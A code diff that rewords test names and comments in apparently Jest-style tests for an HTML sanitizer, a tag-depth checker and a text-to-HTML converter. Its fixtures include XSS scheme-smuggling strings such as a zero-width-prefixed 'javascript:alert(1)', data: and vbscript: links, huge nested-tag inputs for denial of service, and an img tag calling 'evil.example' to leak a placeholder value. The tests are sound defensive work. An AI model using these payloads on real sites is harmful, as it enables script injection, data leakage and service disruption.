@@ -4,7 +4,7 @@ import { liesDeeperThan } from './nesting.js';
 import { sanitizeContent } from './sanitize-content.js';
 
 describe('contentOf', () => {
-  it('makes paragraphs, line breaks and links of plain text', () => {
+  it('turns plain text into paragraphs, line breaks and links', () => {
     expect(
       contentOf('Dear Tom & Jerry,\n\nwe know 5 < 6.\nSee https://kiln.example/a?b=1&c=2.\n\n\nAnna'),
     ).toBe(
@@ -14,9 +14,12 @@ describe('contentOf', () => {
       '<p>see &lt;<a href="https://kiln.example">https://kiln.example</a>&gt;</p>',
     );
   });
-  it.each(['', '  ', '<p>Hi</p>', 'Hi<br>there', 'one <strong>word</strong>'])('leaves %j', (typed) => {
-    expect(contentOf(typed)).toBe(typed);
-  });
+  it.each(['', '  ', '<p>Hi</p>', 'Hi<br>there', 'one <strong>word</strong>'])(
+    'leaves %j unchanged',
+    (typed) => {
+      expect(contentOf(typed)).toBe(typed);
+    },
+  );
 });
 
 describe('liesDeeperThan', () => {
@@ -28,14 +31,14 @@ describe('liesDeeperThan', () => {
     ['<b><b><b>', 3],
     ['</b></b><i>', 1],
     ['<b', 0],
-    // What only looks like an end.
+    // Only looks like an end tag.
     ['<b/><b/>', 2],
     ['<b></i><b></i>', 2],
     ['<b a="/>"><b>', 2],
-    // What only looks like a beginning, or ends by itself.
+    // Only looks like a start tag, or closes implicitly.
     ['<!--<b><b>-->', 0],
     ['<ul><li>a<li>b<li>c</ul>', 2],
-  ])('sees how deep %j is', (html, depth) => {
+  ])('detects the depth of %j', (html, depth) => {
     expect(liesDeeperThan(html, depth)).toBe(false);
     if (depth > 0) expect(liesDeeperThan(html, depth - 1)).toBe(true);
   });
@@ -46,15 +49,15 @@ describe('sanitizeContent', () => {
     ['deep elements', '<b>'.repeat(160_000)],
     ['deep lists', '<ul><li>'.repeat(60_000)],
     ['elements that seem to end at once', '<b/>'.repeat(120_000)],
-    ['elements behind ends of others', '<b></i>'.repeat(70_000)],
-  ])('refuses %s at once', async (_, html) => {
+    ['elements after unmatched end tags', '<b></i>'.repeat(70_000)],
+  ])('rejects %s at once', async (_, html) => {
     await sanitizeContent('<p>warm</p>');
     const started = performance.now();
     await expect(sanitizeContent(html)).rejects.toMatchObject({ code: 'invalid_input' });
     expect(performance.now() - started).toBeLessThan(2_000);
   });
 
-  it('takes slots out that were written as entities', async () => {
+  it('removes slots that were written as entities', async () => {
     const html =
       '<img src="https://evil.example/?u=&#xE000;unsubscribe-url&#xE001;"><p>&#57344;to&#57345;</p>';
     expect(await sanitizeContent(html)).not.toMatch(/[\uE000\uE001]/);
@@ -65,12 +68,12 @@ describe('sanitizeContent', () => {
     '\u200bjavascript:alert(1)',
     '\u2028 data:text/html,x',
     '&nbsp;vbscript:x',
-  ])('sees a scheme behind %j', async (address) => {
+  ])('detects a scheme in %j', async (address) => {
     const html = `<a href="${address}">a</a><img src="${address}" alt="b">`;
     expect(await sanitizeContent(html)).toBe('<a>a</a><img alt="b" />');
   });
 
-  it('is not slowed down by what never closes', async () => {
+  it('is not slowed down by tags that never close', async () => {
     const started = performance.now();
     await sanitizeContent('<a'.repeat(200_000)).catch(() => undefined);
     expect(performance.now() - started).toBeLessThan(5_000);
